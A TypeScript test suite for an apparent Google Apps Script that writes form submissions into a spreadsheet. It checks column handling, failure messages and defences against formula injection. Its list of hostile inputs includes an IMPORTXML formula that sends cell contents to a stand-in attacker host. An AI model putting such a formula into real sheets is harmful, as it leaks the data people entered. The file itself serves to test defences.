import { describe, expect, test } from 'vitest';

import { sampleMessage } from '../domain/testing/sample-forms.ts';
import { fieldNames } from '../domain/forms/enrolment/schema.ts';
import { Google } from './testing/google.ts';
import { personAt, recordsOf, rowsOf } from './testing/sheet.ts';
import { deliver, forwarded, runScript, scriptSource, sheetWith } from './testing/run-script.ts';
import { insertTab } from './testing/workbook.ts';

const columns = ['reference', 'submittedAt', 'dueAt', 'answered', ...fieldNames, 'key'];
const cells = Object.entries(forwarded).map(([name, answer]) => [name, [answer].flat().join('; ')]);
const asCells = Object.fromEntries(cells) as Record<string, string>;

/** A spreadsheet of this size in which the staff have already written. */
function sheetOfStaff(values: string[][], { rows = 12, columns = 26 } = {}): Google {
  const google = new Google();
  insertTab(google.workbook, 'Applications', { rows, columns });
  values.forEach((row, at) => {
    row.forEach((value, column) => personAt(google).types(at + 1, column + 1, value));
  });
  return google;
}

const gridOf = (google: Google) => google.workbook.tabs[0]!.grid;

const hasFormula = (google: Google) =>
  gridOf(google)
    .flat()
    .some(({ formula }) => formula !== '');

test('a form is a row under headings, in the tab of its kind, and only then answered with success', () => {
  const google = new Google();
  expect(deliver(google, forwarded)).toEqual({ success: true, reference: '4KX7-9QMD' });
  expect(rowsOf(google)[0]).toEqual(columns);
  const dueAt = new Date('2025-02-02T09:05:00.000Z');
  expect(recordsOf(google)).toEqual([{ ...asCells, dueAt, answered: '', key: '' }]);
  expect(google.workbook.tabs[0]!.frozenRows).toBe(1);
  const message = { ...sampleMessage, reference: '2222-3333' };
  deliver(google, message);
  expect(recordsOf(google, 'Messages')).toMatchObject([message]);
});

describe('a sheet that the staff have changed', () => {
  test('keeps their columns, their order and their rows; only missing headings are added', () => {
    const google = sheetOfStaff([
      ['Called?', 'City', 'fullName', 'Notes'],
      ['yes', 'Bath', 'Ann Earlier', 'likes mornings'],
    ]);
    expect(deliver(google, forwarded)).toMatchObject({ success: true });
    const [headings, earlier, added] = rowsOf(google);
    expect(headings!.slice(0, 5)).toEqual(['Called?', 'City', 'fullName', 'Notes', 'reference']);
    const known = columns.filter((name) => name !== 'city');
    expect([...headings!].sort()).toEqual(['Called?', 'City', 'Notes', ...known].sort());
    expect(earlier!.slice(0, 4)).toEqual(['yes', 'Bath', 'Ann Earlier', 'likes mornings']);
    expect(added!.slice(0, 4)).toEqual(['', 'Leeds', forwarded.fullName, '']);
  });

  test('shows no apostrophe in its columns of plain text but before what begins like a formula', () => {
    const google = sheetOfStaff([['Called?', 'city', 'country', 'reference']]);
    for (const row of gridOf(google)) for (const cell of row.slice(1, 4)) cell.format = '@';
    const form = { ...forwarded, city: '01', country: '=A1' };
    deliver(google, form);
    expect(rowsOf(google)[1]!.slice(0, 4)).toEqual(['', '01', "'=A1", forwarded.reference]);
    // A row is recognised even if its reference shows the apostrophe.
    personAt(google).types(2, 4, `'${forwarded.reference}`);
    expect(deliver(google, form).success).toBe(true);
    expect(recordsOf(google)).toHaveLength(1);
  });

  test('may have another answer and another time meanwhile, and another form that names the reference', () => {
    const google = sheetWith(forwarded);
    personAt(google).types(2, columns.indexOf('city') + 1, 'Leeds, Yorkshire');
    personAt(google).types(2, columns.indexOf('dueAt') + 1, 'next week');
    const about = {
      ...forwarded,
      ...{ reference: '2222-3333', submittedAt: '2025-02-01T09:05:00.000Z' },
      additionalRequirements: '3333-4444',
    };
    expect(deliver(google, about).success).toBe(true);
    expect(deliver(google, forwarded).success).toBe(true);
    expect(deliver(google, { ...forwarded, reference: '3333-4444' }).success).toBe(true);
    expect(recordsOf(google).map(({ reference }) => reference)).toEqual([
      ...[forwarded.reference, '2222-3333', '3333-4444'],
    ]);
  });

  test('grows when it is full, in rows and in columns', () => {
    const google = sheetOfStaff([['Called?', 'Notes']], { rows: 1, columns: 2 });
    expect(deliver(google, forwarded)).toMatchObject({ success: true });
    expect(recordsOf(google)).toMatchObject([{ ...asCells, 'Called?': '' }]);
  });
});

describe('what was typed', () => {
  const hostile = [
    ...['=A2&B2', '=IMPORTXML("https://thief.example/?"&C2,"//a")', '+A2', '-A2', '@A2'],
    ...['\t=A2', '\r=A2', "'=A2", '01632960001', '+447700900123', '1/2', '2025-03-01'],
    ...['May 2025', 'TRUE', '10%', '£100', '1e5', "''quoted''", '  '],
  ];

  test.each(hostile)('stands in its cell letter for letter: %j', (typed) => {
    const google = new Google();
    const form = { ...forwarded, businessName: typed, additionalRequirements: `${typed}\n=A2` };
    expect(deliver(google, form)).toMatchObject({ success: true });
    expect(recordsOf(google)[0]).toMatchObject({
      businessName: typed.trim(),
      additionalRequirements: `${typed}\n=A2`.trim(),
    });
    expect(hasFormula(google)).toBe(false);
  });

  test('is taken out, and that is said once, should it ever have become a formula', () => {
    const google = new Google();
    const open = scriptSource.replace(": `'${text}`", ": text[0] === '=' ? text : `'${text}`");
    const form = { ...forwarded, businessName: '=C2' };
    expect(deliver(google, form, open).error).toMatch(/had become a formula/);
    expect(deliver(google, form, open).success).toBe(true);
    expect(hasFormula(google)).toBe(false);
    expect(recordsOf(google)).toMatchObject([
      { reference: forwarded.reference, businessName: '(A formula was taken out here.)' },
    ]);
  });
});

describe('a failure is answered as one', () => {
  test.each([
    ['Sheet.appendRow', 'Service invoked too many times for one day: spreadsheets.', /allowance/],
    ['LockService.getScriptLock', 'You do not have permission to call this.', /run install/],
    ['Lock.tryLock', 'There are too many LockService operations against the same script.', /again/],
    ['Sheet.appendRow', 'The cell violates the data validation rules set on it.', /A rule/],
    ['Sheet.getLastRow', 'Service Spreadsheets failed while accessing document.', /Executions/],
  ])('when %s throws “%s”', (service, words, sentence) => {
    const google = new Google();
    google.fault = (called) => (called === service ? words : undefined);
    const answer = deliver(google, forwarded);
    expect(answer).toEqual({ success: false, error: expect.stringMatching(sentence) as string });
    expect(google.lockedBy).toBeUndefined();
  });

  test('and what failed half way is one row after it was sent again', () => {
    const google = new Google();
    google.fault = (called) => (called === 'SpreadsheetApp.flush' ? 'quota' : undefined);
    expect(deliver(google, forwarded).success).toBe(false);
    google.fault = () => undefined;
    expect(deliver(google, forwarded).success).toBe(true);
    expect(recordsOf(google)).toHaveLength(1);
  });
});

test('opening the address says that it works; install makes both tabs, and changes nothing again', () => {
  const google = new Google();
  expect(runScript(google, 'doGet').answer!.content).toMatch(/^The script is installed/);
  expect(google.workbook.tabs).toEqual([]);
  expect(runScript(google, 'install').log).toEqual(['Ready. Now choose Deploy, New deployment.']);
  const tabs = structuredClone(google.workbook.tabs);
  expect(tabs.map(({ name }) => name)).toEqual(['Applications', 'Messages']);
  runScript(google, 'install');
  expect(google.workbook.tabs).toEqual(tabs);
});
